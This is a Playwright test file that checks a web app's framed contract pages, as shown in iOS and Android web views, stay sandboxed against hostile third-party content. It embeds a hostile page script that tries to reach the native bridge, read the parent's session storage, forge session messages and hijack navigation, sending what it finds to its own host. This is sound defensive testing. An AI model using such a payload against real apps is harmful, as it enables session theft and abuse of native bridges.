import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { type AttackedService, patchAnswer, startAttackedService } from './attack-pages.ts';
import { openPage } from './browser.ts';
import { startBrowser } from './journeys.ts';

const browser = await startBrowser();
let attacked: AttackedService;
let context: BrowserContext | undefined;

beforeAll(async () => {
  attacked = await startAttackedService();
  const { origin } = attacked.foreign;
  attacked.foreign.serve('/hostile', hostile(origin));
  attacked.foreign.serve('/around', `<iframe src="${attacked.service.baseUrl}/testPreview?sessionId=demo"></iframe>`);
});
afterAll(() => attacked.stop());
afterEach(() => context?.close());

/** A page that attacks the page around it and reports its findings to its own host. */
const hostile = (origin: string): string => `<!doctype html>
  <meta http-equiv="refresh" content="1;url=https://elsewhere.example/moved">
  <h1>Read me</h1>
  <form id="form" target="_top" action="${origin}/top-by-form"></form>
  <a id="link" target="_top" href="${origin}/top-by-link">Read me</a>
  <script>
    // keepalive: a normal request may be cancelled when the page is replaced
    const say = (what) => { void fetch('${origin}/said.png?' + encodeURIComponent(what), { mode: 'no-cors', keepalive: true }); };
    const attempt = (name, act) => { try { const got = act(); say(name + ' ' + got); } catch {} };
    say('ran');
    attempt('android', () => hiram.toHome('[""]'));
    attempt('ios', () => webkit.messageHandlers.toHome.postMessage(['']));
    attempt('android-around', () => parent.hiram.toHome('[""]'));
    attempt('ios-around', () => parent.webkit.messageHandlers.toHome.postMessage(['']));
    attempt('refresh-around', () => parent.hiramShell.refreshSession('sessionId=taken'));
    attempt('address-around', () => parent.location.href);
    attempt('storage-around', () => parent.sessionStorage.getItem('hiram.session'));
    attempt('referrer', () => { if (document.referrer === '') throw 0; return document.referrer; });
    attempt('message', () => parent.postMessage({ type: 'hiram:session', detail: 'sessionId=taken', sessionId: 'taken' }, '*'));
    attempt('event', () => parent.dispatchEvent(new CustomEvent('hiram:session', { detail: 'sessionId=taken' })));
    attempt('top', () => { top.location = '${origin}/top-by-script'; });
    attempt('popup', () => open('${origin}/popup').name);
    form.submit();
    link.click();
  </script>`;

const shells = ['ios', 'android'] as const;
type Shell = (typeof shells)[number];

/**
 * A web view of a shell that injects its bridge into every frame, as Android's does.
 * @returns the addresses of the frames that called it
 */
async function injectSpy(page: Page, shell: Shell): Promise<string[]> {
  const told: string[] = [];
  await page.exposeBinding('toldToTheShell', ({ frame }, action: string) => void told.push(`${action} ${frame.url()}`));
  await page.addInitScript((kind) => {
    const tell = (action: string) => (): void => {
      (Reflect.get(window, 'toldToTheShell') as ((action: string) => void) | undefined)?.(action);
    };
    const actions = ['to', 'toP', 'toHome', 'closeWebview', 'offToLogin'];
    const handlers = actions.map((action) => [action, kind === 'ios' ? { postMessage: tell(action) } : tell(action)]);
    const bridge: unknown = Object.fromEntries(handlers);
    Object.assign(window, kind === 'ios' ? { webkit: { messageHandlers: bridge } } : { hiram: bridge });
  }, shell);
  return told;
}

/** The places where our pages frame an address of a server: each opens the frame and waits for it. */
const places: Readonly<Record<string, (page: Page, address: string) => Promise<void>>> = {
  'a contract that was agreed to': async (page, address) => {
    await patchAnswer(page.context(), '/v3/contract/contract-list', {
      list: [{ orderId: '86', productId: '1', contracts: [{ title: 'Disclosure statement', position: 0 }] }],
    });
    await patchAnswer(page.context(), '/v3/contract/contract-jump', { contract_url: address });
    await page.goto(`${attacked.service.baseUrl}/contracts?sessionId=demo`);
    await page.getByRole('button', { name: 'Disclosure statement' }).click();
  },
  'a contract that is to be agreed to': async (page, address) => {
    await patchAnswer(page.context(), '/v3/contract/contract-jump', { contract_url: address });
    await page.goto(`${attacked.service.baseUrl}/supportNumber?productId=1&sessionId=demo-new`);
    await page.getByRole('button', { name: 'Disclosure statement', exact: true }).click();
  },
  'the agreement over the confirmation': async (page, address) => {
    await patchAnswer(page.context(), '/v3/loan-confirm/loan-detail-confirm', { popAgreementUrl: address });
    await page.goto(`${attacked.service.baseUrl}/supportNumber?productId=1&sessionId=demo-new`);
    await page.getByRole('button', { name: 'Agreement', exact: true }).click();
  },
};

const fromFrames = (told: readonly string[]): string[] => told.filter((line) => line.includes(attacked.foreign.host));

/** Whether the page was replaced, or goes on in another session. */
const isTaken = (page: Page): boolean => !page.url().startsWith(attacked.service.baseUrl) || /taken/.test(page.url());

/** Frames the hostile page in a place, and gives it time for its attacks. @returns all its effects; `got` is what it has sent by then */
async function attack(page: Page, told: readonly string[], open: (page: Page, address: string) => Promise<void>) {
  const { foreign } = attacked;
  const before = foreign.seen.length;
  await open(page, `${foreign.origin}/hostile`);
  // a replaced page has no frame any more
  const attributesOf = () =>
    page
      .locator('iframe')
      .evaluateAll(([shown]) => [shown?.getAttribute('sandbox'), shown?.getAttribute('referrerpolicy')])
      .catch(() => []);
  await expect.poll(() => foreign.seen.slice(before).map(({ url }) => url), { timeout: 30_000 }).toContain('/hostile');
  const frame = () => page.frames().find((one) => one.url().startsWith(`${foreign.origin}/hostile`));
  const waitWhile = async (isSo: () => boolean, max: number): Promise<void> => {
    for (let waited = 0; waited < max && isSo(); waited += 100) await page.waitForTimeout(100);
  };
  // the dialog is not open yet
  await waitWhile(() => frame() === undefined && !isTaken(page), 30_000);
  const inside = frame();
  // it navigates after a second, where it can: then it has tried everything
  await waitWhile(() => inside?.isDetached() === false && inside.url().endsWith('/hostile'), 2000);
  const [sandbox, referrerPolicy] = await attributesOf();
  const got = () =>
    foreign.seen
      .slice(before)
      .map(({ url }) => decodeURIComponent(url.replace('/said.png?', 'said ')))
      .filter((url) => url !== '/hostile' && url !== '/favicon.ico');
  return {
    got,
    toldFromFrames: fromFrames(told),
    isTaken: isTaken(page),
    pages: page.context().pages().length,
    elsewhere: page.frames().some((one) => one.url().includes('elsewhere.example')),
    sandbox,
    referrerPolicy,
  };
}

// The bridge of a shell is the same in every place of a frame: in turns.
const visits = Object.keys(places).map((place, nth) => [place, shells[nth % shells.length] ?? 'ios'] as const);

describe('in the web view of a shell', () => {
  test.each(visits)(
    'a hostile page in the frame of %s gets nothing and does nothing, in a shell of %s',
    async (place, shell) => {
      const { page } = await openPage(browser);
      context = page.context();
      const open = places[place];
      if (open === undefined) throw new Error(place);
      const told = await injectSpy(page, shell);
      const { got, ...rest } = await attack(page, told, open);
      expect(got()).toEqual([]);
      expect(rest).toEqual({
        toldFromFrames: [],
        isTaken: false,
        pages: 1,
        elsewhere: false,
        sandbox: '',
        referrerPolicy: 'no-referrer',
      });
      // the bridge works nevertheless: the page itself reaches it
      await page.goto(`${attacked.service.baseUrl}/testPreview?sessionId=demo`);
      await page.getByRole('button', { name: 'toHome', exact: true }).click();
      await expect
        .poll(() => told.map((line) => line.replace(/\?.*/, '')))
        .toEqual([`toHome ${attacked.service.baseUrl}/testPreview`]);
    },
  );
});

test('the check detects the effects of a frame without its sandbox', async () => {
  const { page } = await openPage(browser);
  context = page.context();
  let planted = 0;
  await context.route('**/assets/*.js', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(/sandbox:(?:``|""|'')/g, () => {
      planted += 1;
      return 'sandbox:`allow-scripts allow-forms allow-top-navigation allow-popups`';
    });
    await route.fulfill({ response, body });
  });
  const open = places['a contract that was agreed to'];
  if (open === undefined) throw new Error('the place is gone');
  const told = await injectSpy(page, 'android');
  const { got } = await attack(page, told, open);
  expect(planted).toBeGreaterThan(0);
  await expect.poll(got).toEqual(expect.arrayContaining(['said ran', 'said android undefined']));
  await expect.poll(() => fromFrames(told)).not.toEqual([]);
  await expect.poll(() => isTaken(page)).toBe(true);
});

test('a page of ours in a foreign frame does not open, and nothing reaches the shell from there', async () => {
  const { page } = await openPage(browser);
  context = page.context();
  const told = await injectSpy(page, 'android');
  const refused = page.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()));
  await page.goto(`${attacked.foreign.origin}/around`);
  await refused;
  const inside = page.frames().find((frame) => frame !== page.mainFrame());
  expect(await inside?.getByText('Test preview').count()).toBe(0);
  expect(told).toEqual([]);
});

test('a host outside the config is never framed, whatever a server sends', async () => {
  const { page, faults } = await openPage(browser);
  context = page.context();
  const open = places['a contract that was agreed to'];
  if (open === undefined) throw new Error('the place is gone');
  const asked: string[] = [];
  context.on('request', (request) => asked.push(request.url()));
  // by the pages: the host is not on the list
  await open(page, 'https://elsewhere.example/contract');
  await page.getByRole('dialog', { name: 'Disclosure statement' }).waitFor();
  await page.waitForLoadState('networkidle');
  expect(await page.locator('iframe').count()).toBe(0);
  expect(asked.filter((url) => url.includes('elsewhere'))).toEqual([]);
  expect(faults).toEqual([]);
  // by the browser, in case the pages failed to check
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.example/contract';
    document.body.append(frame);
  });
  await expect.poll(() => faults.join(' ')).toMatch(/elsewhere\.example.*frame-src|frame-src.*elsewhere\.example/);
});
